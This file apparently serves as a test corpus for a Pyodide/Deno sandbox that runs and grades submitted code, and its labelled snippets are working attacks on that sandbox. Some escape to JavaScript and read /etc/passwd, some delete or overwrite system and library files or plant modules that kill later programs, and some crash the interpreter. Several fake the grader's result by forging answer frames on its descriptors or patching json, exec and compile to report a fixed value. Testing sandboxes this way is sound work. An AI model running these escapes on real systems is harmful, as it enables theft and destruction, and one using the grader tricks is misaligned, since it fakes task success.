# attack: the js module
import js

print("LEAKED", js.Deno.readTextFileSync("/etc/passwd")[:20])

# attack: run_js
from pyodide.code import run_js

print("LEAKED", run_js("typeof Deno"))

# attack: loadPackage.constructor
import pyodide_js

print("LEAKED", pyodide_js.loadPackage.constructor("return typeof Deno")())

# attack: a proxy's constructor
from pyodide.ffi import to_js

print("LEAKED", to_js([1]).constructor.constructor("return typeof Deno")())

# attack: pyodide from the archive
import zipimport

for name in ("_pyodide", "pyodide"):
    try:
        module = zipimport.zipimporter("/lib/python314.zip").load_module(name)
        print(module)
    except Exception as error:
        print(type(error).__name__)
import pyodide.ffi

print("LEAKED", pyodide.ffi.to_js([1]).constructor)

# attack: builtin modules by their specification
import importlib.machinery
import importlib.util

for name in ("_pyodide_core", "_testinternalcapi", "js", "pyodide_js"):
    try:
        spec = importlib.machinery.ModuleSpec(name, importlib.machinery.BuiltinImporter)
        module = importlib.util.module_from_spec(spec)
        if any(hasattr(module, name) for name in ("to_js", "clear_extension", "JsProxy", "Deno")):
            print("LEAKED", module)
    except ImportError:
        pass

# attack: builtin modules by force
import _imp
import types

for name in ("_pyodide_core", "_testinternalcapi"):
    try:
        module = _imp.create_builtin(types.SimpleNamespace(name=name))
        if any(hasattr(module, name) for name in ("to_js", "clear_extension", "JsProxy")):
            print("LEAKED", module)
    except (ImportError, AttributeError, TypeError):
        pass

# attack: a script through ctypes
import ctypes

library = ctypes.CDLL(None)
library.emscripten_run_script(b"globalThis.postMessage({reply: 'passed'})")
library.emscripten_run_script_string.restype = ctypes.c_char_p
print("LEAKED", library.emscripten_run_script_string(b"typeof Deno"))

# attack: proxies among all objects
import gc

def proxies(objects):
    return [o for o in objects if "JsProxy" in type(o).__name__ or "Js" == type(o).__name__[:2]]

found = proxies(gc.get_objects())
for o in list(gc.get_objects()):
    found += proxies(gc.get_referents(o))
for proxy in found:
    print("LEAKED", type(proxy), str(proxy)[:100])

# attack: types and functions of the bridge
import gc

seen = []
stack = list(object.__subclasses__())
while stack:
    kind = stack.pop()
    if kind in seen:
        continue
    seen.append(kind)
    try:
        stack += type.__subclasses__(kind)
    except TypeError:
        pass
for kind in seen:
    if "JsProxy" in kind.__name__ and kind.__module__ != "_pyodide._core_docs":
        for method in ("new", "__new__"):
            try:
                print("LEAKED", getattr(kind, method)(kind))
            except Exception:
                pass
for o in gc.get_objects():
    if type(o).__name__ == "builtin_function_or_method" and getattr(o, "__name__", "") in ("to_js", "run_js", "create_proxy", "run_sync"):
        print("LEAKED", o([1]))

# attack: the judge's descriptor read
import os

for descriptor in range(3, 16):
    try:
        os.set_blocking(descriptor, False)
    except OSError:
        pass

def add(a, b):
    for path in ("/dev/fd3", "/proc/self/fd/3"):
        try:
            handle = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
        except OSError:
            continue
        return len(os.read(handle, 10))

# attack: answers before the question
import json
import os

frame = json.dumps({"value": 3}).encode()
for descriptor in range(3, 16):
    for _ in range(20):
        try:
            os.write(descriptor, len(frame).to_bytes(4, "little") + frame)
        except OSError:
            break

# attack: descriptors closed and swapped
import os

def add(a, b):
    os.closerange(0, 64)
    for _ in range(10):
        os.open("/dev/null", os.O_RDWR)
    return 3

# attack: the standard library overwritten
import os

for path in ("/lib/python314.zip", "/lib/python3.14"):
    for action in (
        lambda: open(path, "wb").write(b"x"),
        lambda: open(path, "r+b").write(b"x" * 100000),
        lambda: os.truncate(path, 0),
        lambda: os.unlink(path),
        lambda: os.rename(path, "/gone"),
        lambda: os.chmod(path, 0),
    ):
        try:
            action()
        except OSError:
            pass

# attack: a module planted for the next program
import os
import sys

for folder in [*sys.path, "/tmp", "/", ".", "/lib/python3.14/site-packages"]:
    for name in ("heapq", "typing", "reprlib", "sitecustomize"):
        try:
            with open(os.path.join(folder, name + ".py"), "w") as file:
                file.write("raise SystemExit")
        except OSError:
            pass

# attack: the tree turned over
import os
import shutil

for folder in ("/tmp", "/home", "/dev", "/proc", "/lib", "/usr"):
    try:
        os.rename(folder, folder + "-moved")
    except OSError:
        pass
    shutil.rmtree(folder, ignore_errors=True)
os.chdir("/")

# attack: timers for the next program
import signal

signal.setitimer(signal.ITIMER_REAL, 0.01, 0.01)
signal.signal(signal.SIGALRM, lambda *_: 1 / 0)

# attack: interrupts refused
import signal

signal.signal(signal.SIGINT, signal.SIG_IGN)
while True:
    try:
        while True:
            pass
    except BaseException:
        pass

# attack: faults of the interpreter
import faulthandler

faulthandler._sigsegv()

# attack: an overflowing stack in C
import faulthandler

faulthandler._stack_overflow()

# attack: code objects made by hand
import types

def f():
    pass

code = f.__code__.replace(co_code=bytes([255, 255, 100, 255] * 50), co_consts=(), co_stacksize=1)
types.FunctionType(code, {})()

# attack: full of directories
import os

path = "/tmp"
for depth in range(20000):
    path += "/d"
    os.mkdir(path)

# attack: links that point at themselves
import os

os.symlink("/tmp/a", "/tmp/b")
os.symlink("/tmp/b", "/tmp/a")
os.symlink("/", "/tmp/root")
open("/tmp/a").read()

# attack: patches what the worker calls
import os
import posix

for module in (os, posix):
    module.read = lambda *_: b""
    module.write = lambda *_: 0
import builtins
import json

json.dumps = lambda *_, **__: '{"value": 3}'
json.loads = lambda *_, **__: {"value": 3}
builtins.compile = builtins.exec = lambda *_, **__: None
